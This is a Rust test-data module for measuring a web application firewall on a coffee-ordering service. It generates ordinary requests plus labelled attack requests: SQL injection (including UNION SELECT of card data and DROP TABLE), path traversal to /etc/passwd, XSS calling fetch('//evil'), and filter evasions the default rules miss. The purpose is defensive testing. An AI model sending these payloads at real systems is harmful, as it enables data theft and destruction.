//! Traffic to measure the WAF with: a corpus of ordinary Go Coffee requests
//! (for the false-positive rate) and a list of attacks (for the detection
//! rate), both built deterministically.
//!
//! The ordinary traffic is what real customers send, including the text that
//! naive rules trip over: names with apostrophes (`O'Brien`), searches with
//! SQL words in them ("select roast from Kenya"), `--` and `<3` in order
//! notes, percent signs, accents, and a kiosk whose firmware sends no
//! `User-Agent`.

use super::HttpRequest;
use crate::rng::SeededRng;
use std::net::{IpAddr, Ipv4Addr};

const SEARCHES: &[&str] = &[
    "caramel+macchiato",
    "oat%20milk%20latte",
    "select+roast",
    "Select+Dark+Roast+from+Ethiopia",
    "caf%C3%A9+au+lait",
    "decaf+%26+pastries",
    "50%25+off",
    "mocha+--+large",
    "tea+or+coffee",
    "1%2F2+sweet",
    "%3C3+cold+brew",
    "best+coffee+near+me",
    "O%27Reilly%27s+blend",
    "rock+%27n%27+roll+brew",
    "union+square+store",
    "flat+white+and+a+croissant",
];

const NOTES: &[&str] = &[
    "extra hot, no foam",
    "O'Brien - pick up at 5",
    "Name: D'Angelo, table 4",
    "please don't add sugar -- allergic",
    "drop-off between 5--6pm",
    "<b>thanks!</b>",
    "it's for Tom or Anna, same order = same cup",
    "1 latte and 1 espresso",
    "half & half, 2 pumps",
    "select the biggest cup from the shelf",
];

const AGENTS: &[Option<&str>] = &[
    Some("GoCoffee-iOS/5.2.1"),
    Some("GoCoffee-Android/5.2.0"),
    Some("Mozilla/5.0 (Macintosh; Intel Mac OS X 14_5) AppleWebKit/605.1.15"),
    Some("Mozilla/5.0 (X11; Linux x86_64) Gecko/20100101 Firefox/128.0"),
    None, // the kiosk firmware
];

/// `n` ordinary requests from 50 clients, chosen with a seeded generator.
#[must_use]
pub fn ordinary_traffic(n: usize, seed: u64) -> Vec<HttpRequest> {
    let mut rng = SeededRng::new(seed);
    let mut pick = |len: usize| rng.below(len as u64) as usize;
    (0..n)
        .map(|_| {
            let client = IpAddr::V4(Ipv4Addr::new(198, 51, 100, 1 + pick(50) as u8));
            let request = match pick(6) {
                0 => HttpRequest::get(client, "/menu"),
                1 => HttpRequest::get(client, &format!("/menu/drinks/{}", pick(400))),
                2 => HttpRequest::get(
                    client,
                    &format!(
                        "/search?q={}&page={}",
                        SEARCHES[pick(SEARCHES.len())],
                        pick(5)
                    ),
                ),
                3 => HttpRequest::post(
                    client,
                    "/orders",
                    &format!(
                        r#"{{"drink":{},"note":"{}"}}"#,
                        pick(400),
                        NOTES[pick(NOTES.len())]
                    ),
                ),
                4 => HttpRequest::get(
                    client,
                    &format!("/stores?near=57.{},10.{}", pick(99), pick(99)),
                ),
                _ => HttpRequest::get(client, &format!("/orders/{}/status", 10_000 + pick(90_000))),
            };
            match AGENTS[pick(AGENTS.len())] {
                Some(agent) => request.user_agent(agent),
                None => request,
            }
        })
        .collect()
}

/// Attacks, each with what it tries; the last ones are evasions that the
/// default rules miss (which is why queries are parameterised anyway).
#[must_use]
pub fn attacks() -> Vec<(&'static str, HttpRequest)> {
    let c = IpAddr::V4(Ipv4Addr::new(198, 51, 100, 66));
    let ua = |r: HttpRequest| r.user_agent("Mozilla/5.0");
    vec![
        (
            "tautology",
            ua(HttpRequest::get(
                c,
                "/orders?customer=x%27%20OR%20%271%27%3D%271",
            )),
        ),
        (
            "union select",
            ua(HttpRequest::get(
                c,
                "/orders?customer=x%27%20UNION%20SELECT%20pan,cvv%20FROM%20cards--",
            )),
        ),
        (
            "stacked query",
            ua(HttpRequest::get(
                c,
                "/orders?customer=x%27;DROP%20TABLE%20orders",
            )),
        ),
        (
            "comment truncation",
            ua(HttpRequest::post(
                c,
                "/login",
                r#"{"user":"admin'--","password":"x"}"#,
            )),
        ),
        (
            "traversal in a parameter",
            ua(HttpRequest::get(c, "/receipts?file=..%2F..%2Fetc%2Fpasswd")),
        ),
        (
            "traversal in the path",
            ua(HttpRequest::get(c, "/static/%2e%2e/%2e%2e/admin/keys")),
        ),
        (
            "double-encoded traversal",
            ua(HttpRequest::get(c, "/static/%252e%252e/admin")),
        ),
        (
            "encoded slash",
            ua(HttpRequest::get(c, "/static/..%2Fadmin")),
        ),
        (
            "stored XSS in a note",
            ua(HttpRequest::post(
                c,
                "/orders",
                r#"{"note":"<script>fetch('//evil')</script>"}"#,
            )),
        ),
        (
            "XSS via event handler",
            ua(HttpRequest::get(
                c,
                "/search?q=%3Cimg%20src=x%20onerror=alert(1)%3E",
            )),
        ),
        (
            "NUL byte truncation",
            ua(HttpRequest::get(c, "/receipts?file=r1.pdf%00.png")),
        ),
        (
            "scanner probing",
            HttpRequest::get(c, "/search?q=select+1+from+dual").user_agent("sqlmap/1.8"),
        ),
        (
            "evasion: || instead of OR",
            ua(HttpRequest::get(c, "/orders?customer=x%27||%271%27=%271")),
        ),
        (
            "evasion: comment inside UNION/**/SELECT",
            ua(HttpRequest::get(
                c,
                "/orders?customer=1%20UNION/**/SELECT%20pan",
            )),
        ),
    ]
}
